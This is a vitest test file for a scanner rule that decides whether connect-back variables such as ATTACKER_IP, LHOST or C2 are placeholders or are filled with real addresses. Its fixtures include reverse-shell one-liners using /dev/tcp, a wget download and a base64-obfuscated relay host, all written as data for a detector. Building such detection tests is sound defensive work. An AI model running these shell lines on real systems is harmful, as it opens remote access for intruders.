import { describe, expect, it } from 'vitest';
import { classifyHost } from '../../src/analysis/hosts.js';
import { carriesAddress, endpointVariable, lineFills } from '../../src/rules/support/unfilled-hosts.js';

/** When a connect-back variable is filled by a line of text, and when it is left for the reader. */
describe('endpointVariable', () => {
  it('an endpoint that is only a variable names it; a peer-address variable is never a slot', () => {
    expect(endpointVariable({ url: '${ATTACKER_IP}:4444', cls: 'unknown' })).toBe('ATTACKER_IP');
    expect(endpointVariable({ url: '$LHOST', cls: 'unknown' })).toBe('LHOST');
    expect(endpointVariable({ url: '${SSH_CLIENT}:22', cls: 'unknown' })).toBeUndefined();
    expect(endpointVariable({ url: 'c2.${DOMAIN}:443', cls: 'unknown' })).toBeUndefined();
  });
});

describe('lineFills', () => {
  it('a use of the value fills nothing', () => {
    expect(lineFills('bash -i >& /dev/tcp/$ATTACKER_IP/4444 0>&1', 'ATTACKER_IP')).toBe(false);
    expect(lineFills('wget http://$ATTACKER_IP:8000/file', 'ATTACKER_IP')).toBe(false);
    expect(lineFills('perl -e \'$i="$IP";$p=4444;\'', 'IP')).toBe(false);
    expect(lineFills('Keep the values in variables: `$ATTACKER_IP`, `$TARGET_IP`.', 'ATTACKER_IP')).toBe(
      false,
    );
  });

  it('a slot, a lab address or the reader in words leaves it open', () => {
    expect(lineFills('export ATTACKER_IP="10.10.14.x"  # Your attack machine IP', 'ATTACKER_IP')).toBe(false);
    expect(lineFills('LHOST=<your-ip>', 'LHOST')).toBe(false);
    expect(lineFills('ATTACKER_IP=10.10.14.7', 'ATTACKER_IP')).toBe(false);
    expect(lineFills('Set ATTACKER_IP to the address of your own box.', 'ATTACKER_IP')).toBe(false);
    expect(lineFills('ip addr show', 'IP')).toBe(false);
  });

  it('an address, a download, a read, a default or a settings key fills it', () => {
    expect(lineFills('export ATTACKER_IP=45.133.1.9', 'ATTACKER_IP')).toBe(true);
    expect(lineFills('ATTACKER_IP=$(curl -s https://cdn.example-sync.net/ip)', 'ATTACKER_IP')).toBe(true);
    expect(lineFills('read -r ATTACKER_IP < /tmp/peer', 'ATTACKER_IP')).toBe(true);
    expect(lineFills('bash -i >& /dev/tcp/${C2:-relay.example-sync.net}/443 0>&1', 'C2')).toBe(true);
    expect(lineFills('  "env": { "CONSOLE_HOST": "45.133.1.9" }', 'CONSOLE_HOST')).toBe(true);
    expect(lineFills('set LHOST to 45.133.1.9 before you use the lines below', 'LHOST')).toBe(true);
    expect(lineFills('$env:LHOST = "relay.example-sync.net"', 'LHOST')).toBe(true);
    expect(lineFills('LHOST=$(echo cmVsYXkuZXhhbXBsZS1zeW5jLm5ldA== | base64 -d)', 'LHOST')).toBe(true);
  });
});

describe('carriesAddress and address slots', () => {
  it('reads slots and lab ranges as no address', () => {
    expect(classifyHost('10.10.14.x')).toBe('placeholder');
    expect(classifyHost('192.168.1.xxx')).toBe('placeholder');
    expect(classifyHost('10.10.14.7')).toBe('local');
    expect(carriesAddress(' "10.10.14.x"')).toBe(false);
    expect(carriesAddress(' to your box')).toBe(false);
    expect(carriesAddress(' 203.0.113.5')).toBe(false);
    expect(carriesAddress(' 45.133.1.9')).toBe(true);
    expect(carriesAddress(' relay.example-sync.net')).toBe(true);
  });
});
